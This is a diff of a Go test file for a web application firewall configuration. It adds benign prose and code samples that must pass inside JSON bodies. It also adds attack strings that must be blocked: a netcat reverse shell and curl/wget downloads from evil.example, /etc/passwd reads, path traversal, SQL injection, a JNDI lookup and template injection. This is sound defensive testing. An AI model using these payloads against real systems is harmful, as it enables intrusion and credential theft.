@@ -128,7 +128,7 @@ func attackRequests(t *testing.T) (reqs []request, cats []string) {
 }
 
 // ownRuleIDs are the IDs of api-rules.conf.
-var ownRuleIDs = []int{10201, 10202, 10210, 10220, 10221, 10222, 10230, 10240, 10250, 10260, 10270, 10271, 10272, 10280, 10281, 10282, 10290, 10291, 10292, 10293}
+var ownRuleIDs = []int{10201, 10202, 10210, 10220, 10221, 10222, 10230, 10240, 10250, 10260, 10262, 10270, 10271, 10272, 10280, 10281, 10282, 10290, 10291, 10292, 10293, 10294}
 
 // TestAttackCorpus reports the share of the attack corpus refused by the shipped
 // configuration, with decagon's own rules (api-rules.conf) and without them, per category.
@@ -194,9 +194,9 @@ func TestKnownFalsePositives(t *testing.T) {
 	}
 }
 
-// TestJSONProse: prose and code snippets that CRS's command-word rules refuse elsewhere pass
-// as JSON values, which jsonTargets (rules.go) takes out of those rules; an attack in the same place is
-// still refused by the rules that replace them.
+// TestJSONProse: prose and code snippets that CRS's command-word, code-name and UNION...SELECT
+// rules refuse elsewhere pass as JSON values, which jsonTargets (rules.go) takes out of those
+// rules; an attack in the same place is still refused by the rules that replace them.
 func TestJSONProse(t *testing.T) {
 	s := newStack(t, Config{WAF: shippedWAF(t)})
 	for _, text := range []string{
@@ -204,6 +204,10 @@ func TestJSONProse(t *testing.T) {
 		"The shell script printed /usr/bin/env python3", "Files live under /etc/app/config.yaml on the server",
 		"See C:\\Program Files\\App\\app.exe", "The function exec() runs a command", "wget and curl are both download tools",
 		"Set the variable $HOME to your home folder", "Use `sudo systemctl restart nginx` to restart", "Grep is handy; so is sed",
+		"The price is ${price} in the template", `console.log("hi"); alert is not needed`, "The function eval() is dangerous in JS",
+		`return res.status(404).json({ error: "not found" });`, `document.getElementById("app").innerHTML = html;`,
+		"The regex ^[a-z0-9_-]{3,16}$ validates usernames", `import os; os.getenv("HOME")`, "The union will select its leaders",
+		"Union members will select a new chair", "const x = arr.map(v => v * 2);", "Hello {{ user.name }}, welcome back",
 	} {
 		rq := request{method: "POST", target: "/test", contentType: "application/json", body: `{"name":` + jsonString(text) + `,"data":{"note":` + jsonString(text) + `}}`}
 		if rec := s.do(t, rq); rec.Code != http.StatusOK {
@@ -211,7 +215,8 @@ func TestJSONProse(t *testing.T) {
 			t.Errorf("%q: status %d: %v", text, rec.Code, recs[len(recs)-1]["reason"])
 		}
 	}
-	for _, attack := range []string{"; cat /etc/passwd", "| nc -e /bin/sh evil.example 4444", "$(curl http://evil.example/x)", "`id`", "../../../etc/shadow", "&& wget http://evil.example/a -O /tmp/a"} {
+	for _, attack := range []string{"; cat /etc/passwd", "| nc -e /bin/sh evil.example 4444", "$(curl http://evil.example/x)", "`id`", "../../../etc/shadow", "&& wget http://evil.example/a -O /tmp/a",
+		"system('id')", "eval(atob('YWxlcnQoMSk='))", "1 UNION SELECT password FROM users", "${jndi:ldap://evil.example/a}", "{{7*7}}"} {
 		rq := request{method: "POST", target: "/test", contentType: "application/json", body: `{"name":"x","data":{"note":` + jsonString(attack) + `}}`}
 		if rec := s.do(t, rq); rec.Code != http.StatusForbidden {
 			t.Errorf("%q in JSON: status %d, want 403", attack, rec.Code)
